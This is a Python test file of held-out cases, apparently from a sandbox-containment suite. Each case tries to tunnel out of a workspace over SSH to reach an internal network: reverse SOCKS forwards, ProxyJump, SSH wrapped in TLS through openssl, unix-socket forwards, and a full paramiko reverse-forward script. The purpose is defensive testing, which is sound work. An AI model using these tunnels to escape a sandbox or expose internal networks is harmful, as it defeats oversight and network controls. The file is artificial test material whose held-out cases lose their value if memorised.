# SPDX-License-Identifier: Apache-2.0
"""Held out: tunnels by ssh in ways that the other cases do not take."""

import os
import socket
import time

import lib_far as far
import lib_held as held
import lib_net as net
from attack_ssh import fetch, serve_far_page
from lib_case import case


def reverse(c, opened, *config, command="./worker -F config x", port=22):
    far.ssh_config(c, "SessionType none", *config, port=port)
    c.tool("ssh")
    held.start(c, command)
    held.browse(c, opened)


@case("tunnel", seconds=9)
def ssh_R_socks(c):
    """ssh -R with a port alone: the far end has a SOCKS proxy into the internal network"""
    far.sshd(c)
    reverse(c, lambda: held.socks(net.connect("far", *far.forwarded(c, 1080)), far.INNER, 80), "RemoteForward %s:1080" % c.far)


@case("tunnel", seconds=10)
def ssh_jump(c):
    """ssh -N through ProxyJump: the tunnel's ssh has only a pipe, another carries it"""
    far.sshd(c)
    far.sshd(c, 2022)
    jump = "Host j\nHostName %s\nUser root\nIdentityFile /work/key\nIdentitiesOnly yes\nBatchMode yes\nStrictHostKeyChecking no\nUserKnownHostsFile /dev/null\nLogLevel ERROR"
    reverse(c, lambda: net.connect("far", *far.forwarded(c)), "ProxyJump j", "RemoteForward %s:8000 %s:80" % (c.far, far.INNER), jump % c.far, port=2022)


@case("tunnel", seconds=10)
def ssh_in_tls(c):
    """ssh -R inside of TLS to port 443, with openssl s_client as ProxyCommand"""
    far.sshd(c, 2200)
    files = "cert=%s/server.pem,key=%s/server.key,verify=0" % (os.environ["WORLD"], os.environ["WORLD"])
    far.start(c, ["socat", "OPENSSL-LISTEN:443,bind=%s,%s,fork,reuseaddr" % (c.far, files), "TCP:%s:2200" % c.far])
    c.tool("openssl", "carrier")
    reverse(c, lambda: net.connect("far", *far.forwarded(c)), "RemoteForward %s:8000 %s:80" % (c.far, far.INNER),
            "ProxyCommand ./carrier s_client -quiet -verify_quiet -connect %s:443 2>/dev/null" % c.far)


@case("tunnel", seconds=9)
def ssh_R_unix(c):
    """ssh -R from a unix socket of the far end"""
    far.sshd(c)
    path = c.base + "/joint"

    def opened():
        c.wait_for(lambda: os.path.exists(path), 20, "ssh -R")
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(20)
        s.connect(path)
        return s

    reverse(c, opened, "RemoteForward %s %s:80" % (path, far.INNER))


@case("tunnel", seconds=9)
def ssh_L_unix(c):
    """ssh -L whose near end is a unix socket of the workspace"""
    asked = serve_far_page(c)
    far.sshd(c, 443)
    far.ssh_config(c, "LocalForward /work/joint 127.0.0.%d:8000" % c.number, "SessionType none", port=443)
    c.tool("ssh")
    c.attack("./worker -F config x & until [ -S joint ]; do sleep 0.1; done; for i in 1 2 3 4 5; do curl -s --unix-socket /work/joint http://x/ | wc -c; sleep 0.5; done; kill %1")
    c.begin()
    fetch(c, asked)


@case("tunnel", seconds=6, refused=True)
def ssh_w(c):
    """ssh -w: there is no tun device to be had"""
    far.sshd(c)
    far.ssh_config(c, "Tunnel point-to-point", "TunnelDevice any:any")
    c.tool("ssh")
    attack = c.attack("./worker -F config x true 2>&1; echo got $?; ls /dev/net/tun 2>&1; ip -o link 2>&1 | grep -c tun")
    c.begin()
    c.replay.wait(30)
    said = c.output(attack)
    c.prove("got 0" not in said and "No such file" in said, "no tunnel came up, and there is no device")


PARAMIKO = """\
import select, socket, threading
import paramiko

t = paramiko.Transport(("%(far)s", 22))
t.start_client(timeout=10)
t.auth_publickey("root", paramiko.Ed25519Key.from_private_key_file("key"))
t.request_port_forward("%(far)s", 8000)


def carry(channel):
    with socket.create_connection(("%(inner)s", 80)) as s:
        ends = {s: channel, channel: s}
        while True:
            for a in select.select(list(ends), [], [])[0]:
                data = a.recv(32768)
                if not data:
                    return channel.close()
                ends[a].sendall(data)


while channel := t.accept(1000):
    threading.Thread(target=carry, args=(channel,), daemon=True).start()
"""


@case("tunnel", seconds=10)
def paramiko_R(c):
    """another implementation of SSH: a reverse forward by paramiko"""
    held.need_module("paramiko")
    far.sshd(c)
    far.ssh_key(c)
    c.file("build.py", PARAMIKO % {"far": c.far, "inner": far.INNER})
    held.start(c, "/usr/bin/python3 build.py")
    where = far.forwarded(c)
    time.sleep(0.3)
    held.browse(c, lambda: net.connect("far", *where))
